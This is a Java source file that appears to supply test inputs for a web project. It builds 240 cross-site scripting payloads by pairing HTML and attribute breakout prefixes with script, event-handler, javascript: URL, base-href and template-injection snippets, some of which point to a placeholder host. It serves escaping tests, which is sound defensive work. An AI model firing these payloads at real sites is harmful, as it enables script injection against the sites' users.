package broadsheet.web;

import java.util.List;
import java.util.stream.Stream;

/** Texts that would run as script in a page that forgot to escape them somewhere. */
public final class Payloads {

    private Payloads() {}

    /** Each attack behind each way out: 240 texts. */
    public static Stream<String> all() {
        List<String> breakouts = List.of("", "\"", "'", "\">", "'>", "</a>", "</title>", "</mark>", "</li></ol>", "-->",
                "]]>", "\u0000", "\\\"", "&quot;>", "%22%3E", "`", "</script>", "</style>", "</textarea>", "\r\n\r\n");
        List<String> attacks = List.of("<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
                "<svg/onload=alert(1)>", " onmouseover=alert(1) x=", "javascript:alert(1)",
                "<a href=\"javascript:alert(1)\">x</a>", "<iframe srcdoc='<script>alert(1)</script>'>",
                "<style>@import'//e.example'</style>", "data:text/html,<script>alert(1)</script>",
                "<base href=//e.example>", "{{constructor.constructor('alert(1)')()}}", "java\tscript:alert(1)");
        return breakouts.stream().flatMap(out -> attacks.stream().map(attack -> out + attack));
    }
}
